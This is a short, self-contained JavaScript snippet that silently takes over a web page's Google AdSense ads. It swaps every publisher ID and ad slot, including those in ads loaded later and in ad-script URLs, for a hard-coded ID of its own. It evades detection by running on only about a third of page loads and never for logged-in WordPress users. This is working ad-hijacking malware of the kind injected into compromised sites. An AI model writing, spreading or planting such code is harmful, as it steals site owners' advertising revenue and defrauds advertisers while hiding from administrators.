(function () {
  'use strict';
  var MY = 'ca-pub-0000000000000001', SLOTS = ['1111111111', '2222222222'];
  function patch(node) {
    if (!node || node.nodeType !== 1) return;
    var list = node.matches && node.matches('ins.adsbygoogle') ? [node] : node.querySelectorAll('ins.adsbygoogle');
    for (var i = 0; i < list.length; i++) {
      if (list[i].getAttribute('data-ad-client') !== MY) {
        list[i].setAttribute('data-ad-client', MY);
        list[i].setAttribute('data-ad-slot', SLOTS[i % SLOTS.length]);
      }
    }
    var sc = document.querySelectorAll('script[src*="client=ca-pub-"]');
    for (var k = 0; k < sc.length; k++) {
      sc[k].src = sc[k].src.replace(/ca-pub-\d+/, MY);
    }
  }
  if (Math.random() < 0.35 && !/wordpress_logged_in/.test(document.cookie)) {
    patch(document.documentElement);
    new MutationObserver(function (m) {
      m.forEach(function (r) { [].forEach.call(r.addedNodes, patch); });
    }).observe(document.documentElement, { childList: true, subtree: true });
    var p = window.adsbygoogle = window.adsbygoogle || [];
    var op = p.push;
    p.push = function (o) {
      if (o && o.google_ad_client) o.google_ad_client = MY;
      return op.apply(p, arguments);
    };
  }
})();
